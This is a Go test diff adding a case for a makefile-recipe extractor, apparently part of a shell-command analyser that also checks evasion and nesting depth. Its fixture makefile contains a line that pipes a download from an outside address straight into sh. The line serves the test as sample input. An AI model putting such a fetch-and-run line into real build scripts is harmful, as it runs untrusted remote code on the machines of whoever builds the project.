@@ -283,3 +283,29 @@ func TestScriptRun(t *testing.T) {
 		}
 	}
 }
+
+func TestMakeRecipes(t *testing.T) {
+	mk := "CC ?= gcc\n" +
+		"all: $(OBJS)\n" +
+		"\t$(CC) $(CFLAGS) -o $@ $^\n" +
+		"\t@echo built $(notdir $@) in $${PWD}\n" +
+		"\tif [ -n \"$(V)\" ]; then \\\n\t  echo verbose; \\\n\tfi\n" +
+		"\tcurl -s $(shell echo http://203.0.113.7/x) | sh\n" +
+		"clean: ; rm -rf build\n" +
+		"\t)(not shell\n"
+	got := MakeRecipes(mk)
+	for _, want := range []string{"MAKEVAR MAKEVAR -o MAKEVAR MAKEVAR\n", "echo built MAKEVAR in ${PWD}\n",
+		"then \\\n  echo verbose; \\\nfi\n", "curl -s $(echo http://203.0.113.7/x) | sh\n", "rm -rf build\n"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("MakeRecipes lacks %q:\n%s", want, got)
+		}
+	}
+	if strings.Contains(got, "not shell") {
+		t.Errorf("a line that is not shell was kept:\n%s", got)
+	}
+	// A large makefile full of references stays within the nested budget.
+	big := strings.Repeat("x:\n\t$(CC) $(CFLAGS) $(LDFLAGS) -o $@ $(OBJS)\n", 500)
+	if s := Parse("make -f - <<'EOF'\n" + big + "EOF"); s.TooDeep || s.HasEvasion("too-deep") {
+		t.Errorf("a large makefile was too deep")
+	}
+}
